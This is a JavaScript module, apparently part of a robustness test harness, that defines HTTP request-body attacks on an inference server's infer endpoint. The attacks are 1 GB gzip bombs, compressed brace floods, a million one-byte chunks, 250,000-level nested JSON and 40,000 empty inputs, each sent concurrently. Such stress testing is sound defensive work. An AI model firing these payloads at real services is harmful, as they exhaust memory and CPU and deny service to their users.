/**
 * Attacks with bodies of HTTP inference requests.
 */
import { gzipSync } from "node:zlib";
import { request } from "../../scorecard/support/http1-client.mjs";
import { concurrently, onConnection, once, write } from "./support.mjs";

const PATH = "/v2/models/echo_int32/infer";
const MEGABYTE = 2 ** 20;
const GZIP = { "Content-Encoding": "gzip", Connection: "close" };

export const emptyInputs = {
  id: "http-empty-inputs",
  title: "2.4 MB of JSON with 40,000 empty inputs",
  prepare() {
    const inputs = Array.from(
      { length: 40_000 },
      (_, i) => `{"name":"i${i}","datatype":"INT32","shape":[0],"data":[]}`,
    );
    const bytes = request("POST", PATH, { Connection: "close" }, Buffer.from(`{"inputs":[${inputs.join(",")}]}`));
    return ({ http, until }) => concurrently(2, until, () => once(http, bytes, until));
  },
};

export const gzipBombs = {
  id: "http-gzip-bombs",
  title: "gzip bombs of 1 GB, ten at a time",
  prepare() {
    const bytes = request("POST", PATH, GZIP, gzipSync(Buffer.alloc(1024 * MEGABYTE, " "), { level: 1 }));
    return ({ http, until }) => concurrently(10, until, () => once(http, bytes, until));
  },
};

export const gzipBraces = {
  id: "http-gzip-braces",
  title: "64 KB gzip of `{},`",
  prepare() {
    const head = '{"inputs":[';
    const text = Buffer.concat([Buffer.from(head), Buffer.alloc(63 * MEGABYTE, "{},"), Buffer.from("{}]}")]);
    const bytes = request("POST", PATH, GZIP, gzipSync(text, { level: 9 }));
    return ({ http, until }) => concurrently(2, until, () => once(http, bytes, until));
  },
};

export const manyChunks = {
  id: "http-chunks",
  title: "a million chunks of one byte",
  prepare() {
    const head = Buffer.from(`POST ${PATH} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n`);
    const chunks = Buffer.alloc(6 * 60_000, "1\r\n \r\n");
    return ({ http, until }) =>
      concurrently(4, until, () =>
        onConnection(http, until, async socket => {
          await write(socket, head);
          for (let i = 0; i < 16; i++) if (!(await write(socket, chunks))) return;
        }),
      );
  },
};

export const deepJson = {
  id: "http-deep-json",
  title: "JSON of 250,000 levels",
  prepare() {
    const text = `{"inputs":[{"name":"INPUT0","datatype":"INT32","shape":[1,4],"data":${"[".repeat(250_000)}`;
    const bytes = request("POST", PATH, { Connection: "close" }, Buffer.from(text));
    return ({ http, until }) => concurrently(4, until, () => once(http, bytes, until));
  },
};
